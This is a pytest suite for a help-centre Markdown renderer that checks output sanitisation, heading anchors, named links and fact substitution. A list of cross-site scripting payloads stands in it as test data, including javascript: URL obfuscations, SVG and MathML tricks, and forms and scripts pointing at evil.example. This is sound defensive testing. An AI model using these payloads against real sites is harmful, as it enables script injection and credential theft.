"""What an editor's Markdown becomes, and what it never becomes."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.utils.translation import override
from hypothesis import example, given, settings
from hypothesis import strategies as st

from articles import markdown
from articles.markdown import RenderError

FORBIDDEN = {
    "base", "body", "button", "embed", "form", "frame", "frameset", "head", "html", "iframe",
    "link", "math", "meta", "noscript", "object", "option", "script", "select", "style", "svg",
    "template", "textarea", "title", "video", "audio", "source", "picture", "h1",
}  # fmt: skip


class Audit(HTMLParser):
    """Collects the elements of some HTML, and objects to any that could do something."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        self.elements.append((tag, values))
        assert tag in markdown.TAGS, tag
        assert tag not in FORBIDDEN, tag
        for name, value in attrs:
            assert not name.startswith("on"), name
            assert name not in ("style", "srcset", "srcdoc", "action", "formaction", "name"), name
            if name in ("href", "src"):
                # As a browser reads an address: without tabs, line ends and leading controls.
                address = "".join(c for c in value or "" if c not in "\t\r\n")
                address = address.strip("".join(map(chr, range(33))))
                assert urlsplit(address).scheme in ("", "http", "https", "mailto"), value
        if tag == "input":
            assert values["type"] == "checkbox"
        if tag == "img" and "src" in values:
            assert not urlsplit(values["src"].replace("\\", "/")).netloc

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    def all(self, tag: str) -> list[dict[str, str | None]]:
        """The attributes of every element of this name."""
        return [values for name, values in self.elements if name == tag]


def render(source: str, locale: str = "en", **facts: str) -> markdown.Rendered:
    return markdown.render(source, locale=locale, facts=facts)


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "a <script>alert(1)</script> b",
    '<div markdown="1"><script>alert(1)</script></div>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" alt="x" ONERROR = "alert(1)">',
    "<b/onclick=alert(1)>b</b>",
    '<p onmouseover="alert(1)">p</p>',
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](jav&#x61;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x][a]\n\n[a]: javascript:alert(1)",
    '[x][a]\n\n[a]: <javascript:alert(1)> "title"',
    '[x](/a "title\\" onclick=\\"alert(1)")',
    '[x](/a" onclick="alert(1))',
    '![x" onerror="alert(1)](/a.png)',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a target="_top" name="x" ping="//evil.example" href="/a">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<p style="position:fixed;inset:0">p</p>',
    "<style>body{display:none}</style>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><input name=password><button>Go</button></form>',
    '<input type="text" value="x"><input type="image" src="//evil.example/x">',
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select><option>x</option></select>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<template><script>alert(1)</script></template>",
    '# Title {onclick=alert(1) style="color:red"}',
    "[x](/a){onclick=alert(1) style=color:red}",
    '![x](/a.png){onerror=alert(1) srcset="//evil.example/x 2x"}',
    "paragraph\n{: onclick=alert(1) style=color:red }",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "!!! note \"<script>alert(1)</script>\"\n    text",
    "??? note \"<img src=x onerror=alert(1)>\"\n    text",
    "```html\n<script>alert(1)</script>\n```",
    '``` {.python onclick="alert(1)" style="color:red"}\nx\n```',
    "`<script>alert(1)</script>`",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "<img src='//evil.example/x.png' alt='x'>",
    "<div><img src='/\\evil.example/x.png' alt='x'></div>",
    "![x](//evil.example/x.png)",
    "![x](http://[)",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_gets_through(payload):
    Audit(render(payload).html)
    Audit(render(f"> 1. {payload}\n\nAfter *that*.").html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_fact_is_text_wherever_it_stands(payload):
    source = "A {{fact}} *b* [c]({{fact}}) `{{fact}}`\n\n## {{fact}}\n\n<p title='{{fact}}'>x</p>"
    Audit(render(source, fact=payload).html)


SYNTAX = [
    "# ", "> ", "- ", "1. ", "    ", "\n", "\n\n", "```", "`", "**", "[", "](", ")", "|", "|-|",
    "!!! note\n    ", "{: ", "}", "{{a}}", "<", ">", '"', "&#", "<div>",
]  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(PAYLOADS),
            st.sampled_from(SYNTAX),
            st.text(max_size=8),
        ),
        max_size=12,
    ).map("".join)
)
@example("\ud800")
@example("p\n{: id=x }\n<div>")
def test_whatever_is_typed_it_renders_safely_or_says_why(source):
    with suppress(RenderError):
        Audit(render(source, a="<b>1</b>").html)


# -- headings ------------------------------------------------------------------------


def test_headings_have_anchors_that_stay_when_the_text_around_them_changes():
    before = render("## How to withdraw\n\nText.").headings
    after = render("New words.\n\n## First of all\n\n## How to withdraw\n\nText.").headings
    assert before[0].id == after[1].id == "how-to-withdraw"


def test_a_heading_may_name_its_anchor():
    rendered = render("## Cash out {#withdraw}")
    assert [(h.id, h.text) for h in rendered.headings] == [("withdraw", "Cash out")]


def test_the_anchor_of_a_heading_does_not_move_with_the_fact_in_it():
    one, two = (render("## Within {{wait}} or less", wait=w).headings[0] for w in ("1 h", "2 h"))
    assert one.id == two.id
    assert (one.text, two.text) == ("Within 1 h or less", "Within 2 h or less")


def test_headings_of_the_same_words_have_anchors_of_their_own():
    ids = [heading.id for heading in render("## Fees\n\n## Fees\n\n### Fees").headings]
    assert len(set(ids)) == 3


def test_chinese_headings_have_chinese_anchors():
    assert render("## 提现未到账", locale="zh-hans").headings[0].id == "提现未到账"


def test_the_page_keeps_its_only_first_level_heading():
    rendered = render("# One\n\n## Two\n\n###### Six")
    assert [heading.level for heading in rendered.headings] == [2, 3, 6]
    assert "<h1" not in rendered.html
    assert [heading.level for heading in render("## Two").headings] == [2]


def test_the_table_of_contents_has_two_levels_and_plain_words():
    toc = render("## A *b* `c`\n\n### D & E\n\n#### F").toc()
    assert toc == [
        {"level": 2, "id": "a-b-c", "text": "A b c"},
        {"level": 3, "id": toc[1]["id"], "text": "D & E"},
    ]


@pytest.mark.parametrize(("locale", "words"), [("en", "Link to this section"), ("zh-hans", None)])
def test_the_mark_beside_a_heading_is_named_in_the_language_of_the_article(locale, words):
    with override("zh-hans" if locale == "en" else "en"):
        link = Audit(render("## A", locale=locale).html).all("a")[0]
    assert link["href"] == "#a"
    assert link["title"]
    assert words is None or link["title"] == words


# -- links and images ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("target", "address"),
    [
        ("article:cancel-withdrawal", "/en/articles/cancel-withdrawal/"),
        ("article:cancel-withdrawal#first", "/en/articles/cancel-withdrawal/#first"),
        ("category:fees", "/en/categories/fees/"),
        ("page:support", "/en/support/"),
        ("page:home", "/en/"),
        ("page:tickets", "/en/support/tickets/"),
    ],
)
def test_articles_categories_and_pages_are_linked_by_name(target, address):
    rendered = render(f"[x]({target})")
    assert Audit(rendered.html).all("a")[0]["href"] == address
    assert rendered.warnings == ()


def test_a_link_by_name_leads_to_the_language_of_the_article():
    rendered = render("[x](article:提现)", locale="zh-hans")
    assert Audit(rendered.html).all("a")[0]["href"].startswith("/zh-hans/articles/")


def test_a_link_that_leads_nowhere_keeps_its_words_and_says_so():
    rendered = render("[the words](page:nowhere)")
    assert rendered.text == "the words"
    assert Audit(rendered.html).all("a") == []
    assert rendered.warnings == ("The link page:nowhere leads nowhere.",)


def test_an_image_from_elsewhere_becomes_a_link():
    audit = Audit(render("![A chart](https://pictures.example/a.png)").html)
    assert audit.all("img") == []
    assert audit.all("a")[0]["href"] == "https://pictures.example/a.png"


def test_an_image_from_elsewhere_within_a_link_becomes_its_words():
    rendered = render("[![A chart](https://pictures.example/a.png)](https://site.example/)")
    assert [a["href"] for a in Audit(rendered.html).all("a")] == ["https://site.example/"]
    assert rendered.text == "A chart"


@pytest.mark.parametrize(
    "source", ["![](/static/a.png)", "<img src='/static/a.png'>", "![ ](https://p.example/a.png)"]
)
def test_an_image_without_alternative_text_is_told(source):
    assert len(render(source).warnings) == 1
    assert "alternative text" in render(source).warnings[0]


def test_warnings_speak_the_language_of_the_editor():
    with override("en"):
        rendered = render("![](/a.png) [x](page:nowhere) {{nothing}}", locale="zh-hans")
    assert rendered.warnings == (
        "There is no fact “nothing”.",
        "The link page:nowhere leads nowhere.",
        "The image /a.png has no alternative text.",
    )


# -- what editors write with ---------------------------------------------------------


def test_a_task_list_has_boxes_that_nobody_can_tick():
    boxes = Audit(render("- [x] done\n- [ ] to do").html).all("input")
    assert ["checked" in box for box in boxes] == [True, False]
    assert all("disabled" in box for box in boxes)


def test_code_is_coloured_with_classes_only():
    html = render('```python\nprint("<b>")\n```').html
    assert Audit(html).all("span")
    assert "&lt;b&gt;" in html


def test_callouts_tables_and_folded_parts_are_kept():
    audit = Audit(
        render("!!! warning\n    Careful.\n\n??? note\n    More.\n\n|a|b|\n|-|-|\n|1|2|").html
    )
    assert "admonition warning" in [div.get("class") for div in audit.all("div")]
    assert audit.all("details")
    assert len(audit.all("td")) == 2


# -- facts ---------------------------------------------------------------------------


def test_a_fact_is_inserted_and_an_unknown_one_stays_as_typed():
    rendered = render("Within {{ wait }}, {{other}}.", wait="24–48 hours")
    assert rendered.text == "Within 24–48 hours, {{other}}."
    assert rendered.warnings == ("There is no fact “other”.",)


def test_the_value_of_a_fact_is_never_markup():
    rendered = render("**{{f}}** `{{f}}`", f="<b>1</b> *2* _3_ [4](/5) {{f}}")
    assert rendered.text == "<b>1</b> *2* _3_ [4](/5) {{f}} <b>1</b> *2* _3_ [4](/5) {{f}}"
    assert [tag for tag, _values in Audit(rendered.html).elements] == ["p", "strong", "code"]


def test_a_fact_may_be_an_address():
    rendered = render("[write](mailto:{{email}})", email="help@exchange.example")
    assert Audit(rendered.html).all("a")[0]["href"] == "mailto:help@exchange.example"


def test_a_fact_in_coloured_code_is_whole():
    assert "wait = 24" in render("```python\nwait = {{wait}}\n```", wait="24").text


# -- text ----------------------------------------------------------------------------


def test_the_text_has_a_line_for_each_block_and_no_anchor_marks():
    source = "## Fees\n\nOne\n\n- two\n- three\n\n|a|b|\n|-|-|\n|c|d|\n\n![A chart](/a.png)"
    assert render(source).text.split("\n") == [
        "Fees", "One", "two", "three", "a", "b", "c", "d", "A chart",
    ]  # fmt: skip


def test_control_characters_and_halves_of_pairs_are_left_out():
    assert render("a\0b\x08c\x1bd\ud800e\ue000f").text == "abcdef"


def test_nothing_becomes_nothing():
    assert render("") == markdown.Rendered(html="", text="")


# -- failing well --------------------------------------------------------------------

TOO_DEEP = "*" * 5000 + "a" + "*" * 5000


def test_what_nests_too_deeply_is_refused():
    with pytest.raises(RenderError, match="deeply"):
        render(TOO_DEEP)


@pytest.mark.parametrize("source", [">" * 3000 + " a", "<div>" * 3000, "[" * 800, "<" * 5000])
def test_what_nests_deeply_is_refused_or_safe(source):
    with suppress(RenderError):
        Audit(render(source).html)


def test_a_refused_text_leaves_nothing_to_the_next_article():
    with pytest.raises(RenderError):
        render("- a\n\n    > " + TOO_DEEP)
    assert render("*a* **b**").html == "<p><em>a</em> <strong>b</strong></p>"


def test_threads_do_not_mix_their_articles():
    sources = [(f"## Title {n} {{#t{n}}}\n\n{{{{n}}}}", str(n)) for n in range(40)]
    with ThreadPoolExecutor(8) as pool:
        rendered = list(pool.map(lambda pair: render(pair[0], n=pair[1]), sources))
    for n, article in enumerate(rendered):
        assert [h.id for h in article.headings] == [f"t{n}"]
        assert article.text == f"Title {n}\n{n}"
